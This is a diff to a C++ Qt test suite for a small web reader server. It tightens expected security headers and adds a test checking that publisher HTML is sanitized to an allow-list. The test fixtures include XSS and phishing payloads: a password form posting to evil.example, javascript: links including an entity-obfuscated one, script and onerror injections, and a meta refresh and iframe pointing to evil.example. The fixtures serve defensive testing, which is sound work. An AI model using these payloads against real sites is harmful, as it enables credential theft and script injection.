@@ -25,6 +25,8 @@
 #include <QtTest>
 #include <httplib.h>
 
+#include <iterator>
+
 namespace {
 
 QStringList hrefsOf(const QString &html)
@@ -91,6 +93,7 @@ private slots:
     void headersValidatorsAndHead();
     void pagesFollowAPublish();
     void readerValuesAreEscaped();
+    void publisherMarkupIsReducedToTheAllowList();
     void searchUsesTheIndexInTheFileOrSaysItSearchesNamesOnly();
     void theProgramsServeAndPrepareTheReader();
 
@@ -268,7 +271,8 @@ void TestReader::unknownPathsAndRecordsGetTheNotFoundPage()
 void TestReader::headersValidatorsAndHead()
 {
     ReaderServer reader(m_content);
-    const std::string csp = "default-src 'self'; img-src 'self' data:; style-src 'self'";
+    const std::string csp = "default-src 'self'; img-src 'self' data:; style-src 'self'; base-uri 'none'; "
+                            "form-action 'self'; frame-ancestors 'none'";
     for (const QString &path : {QStringLiteral("/"), QStringLiteral("/item/101"), QStringLiteral("/nothing"),
                                 QStringLiteral("/reader.css"), QStringLiteral("/item/101/image/VIAL"),
                                 QStringLiteral("/search?q=суспензия")}) {
@@ -276,6 +280,7 @@ void TestReader::headersValidatorsAndHead()
         QVERIFY2(reply.status == 200 || reply.status == 404, qPrintable(path));
         QCOMPARE(reply.header("Content-Security-Policy"), csp);
         QCOMPARE(reply.header("X-Content-Type-Options"), std::string("nosniff"));
+        QCOMPARE(reply.header("Referrer-Policy"), std::string("same-origin"));
         QCOMPARE(reply.header("Cache-Control"), std::string("public, max-age=7"));
         QVERIFY(reply.header("Set-Cookie").empty());
         QCOMPARE(reply.header("ETag").empty(), reply.status != 200);
@@ -385,6 +390,68 @@ void TestReader::readerValuesAreEscaped()
         reader.get(QStringLiteral("/letter/") + QString::fromLatin1(QUrl::toPercentEncoding(query)));
     QCOMPARE(missing.status, 404);
     QVERIFY(!missing.text().contains(QStringLiteral("<script")));
+}
+
+void TestReader::publisherMarkupIsReducedToTheAllowList()
+{
+    // One fragment a line of a product's field: what the page keeps of it, what must not be
+    // anywhere on the page, and what the publisher is told about that line.
+    struct Case
+    {
+        const char *html;
+        const char *kept;
+        const char *gone;
+        const char *warning;
+    };
+    const Case cases[] = {
+        {"<meta http-equiv=\"refresh\" content=\"0; url=http://evil.example/\">", "", "http-equiv", "<meta>"},
+        {"<base href=\"http://evil.example/\">", "", "<base", "<base>"},
+        {"<form action=\"http://evil.example/login\" method=\"post\"><p>Войти <input name=\"pw\"><button>OK</button></p></form>",
+         "<p>Войти OK</p>", "name=\"pw\"", "<form>"},
+        {"<p onclick=\"steal()\" style=\"color:red\" class=\"note\">Текст</p>", "<p class=\"note\">Текст</p>", "steal()",
+         "onclick у <p>"},
+        {"<a href=\"javascript:alert(1)\">ссылка</a>", "<a>ссылка</a>", "javascript:", "href у <a>"},
+        {"<a href=\"jav&#x61;script:alert(2)\">вторая</a>", "<a>вторая</a>", "alert(2)", "href у <a>"},
+        {"<a href=\"https://example.org/x\">сайт</a>", "<a href=\"https://example.org/x\">сайт</a>", "", ""},
+        {"<script>alert(3)</script><style>p{}</style><svg><a href=\"x\">в</a></svg>", "", "alert(3)", "<script>"},
+        {"<img src='http://evil.example/p.png' onerror=\"x()\" width=\"10\">", "<img width=\"10\" alt=\"\">", "onerror",
+         "src у <img>"},
+        {"<table border=\"1\" width=\"900\"><tr><td colspan=\"2\" bgcolor=\"red\">ячейка</td></tr></table>",
+         "<td colspan=\"2\">ячейка</td>", "bgcolor", "width у <table>"},
+        {"<iframe src=\"http://evil.example/\"></iframe><!-- <b>скрыто</b> --><sup>2</sup>", "<sup>2</sup>", "скрыто",
+         "<iframe>"},
+    };
+    QTemporaryDir dir;
+    const QString src = dir.filePath(QStringLiteral("src"));
+    copyTree(m_sources, src);
+    constexpr int kFirstLine = 4;
+    QByteArray item = "id: 150\nname: Проверка разметки\n== effect\n";
+    for (const Case &c : cases)
+        item += QByteArray(c.html) + '\n';
+    writeFile(src + QStringLiteral("/items/150.txt"), item);
+    const QString content = dir.filePath(QStringLiteral("content.sqlite"));
+    const PublishReport report = publishSources(src, content, {});
+    QVERIFY2(report.errors.isEmpty(), qPrintable(report.errors.join(QLatin1Char('\n'))));
+    ReaderServer reader(content);
+    const Reply page = reader.get(QStringLiteral("/item/150"));
+    QCOMPARE(page.status, 200);
+    const QString text = page.text();
+    QVERIFY(!text.contains(QStringLiteral("evil.example")));
+    for (int i = 0; i < int(std::size(cases)); ++i) {
+        const Case &c = cases[i];
+        const QString line = QStringLiteral("items/150.txt:%1: ").arg(kFirstLine + i);
+        QVERIFY2(text.contains(QString::fromUtf8(c.kept)), c.html);
+        QVERIFY2(!*c.gone || !text.contains(QString::fromUtf8(c.gone)), c.html);
+        const QStringList told = report.warnings.filter(line);
+        QVERIFY2(*c.warning ? told.contains(line + QStringLiteral("на сайте будет убрано: ") + QString::fromUtf8(c.warning))
+                            : told.isEmpty(),
+                 qPrintable(told.join(QLatin1Char('|')) + QLatin1Char(' ') + QString::fromUtf8(c.html)));
+    }
+    // The markup the demo uses draws no warning.
+    SourceProblems demo;
+    readSourceDir(qEnvironmentVariable("RAMUX_SOURCE_DIR") + QStringLiteral("/data/demo"), demo, SourceChecks::Publish);
+    QVERIFY2(demo.warnings.filter(QStringLiteral("на сайте")).isEmpty(),
+             qPrintable(demo.warnings.filter(QStringLiteral("на сайте")).join(QLatin1Char('\n'))));
 }
 
 void TestReader::searchUsesTheIndexInTheFileOrSaysItSearchesNamesOnly()
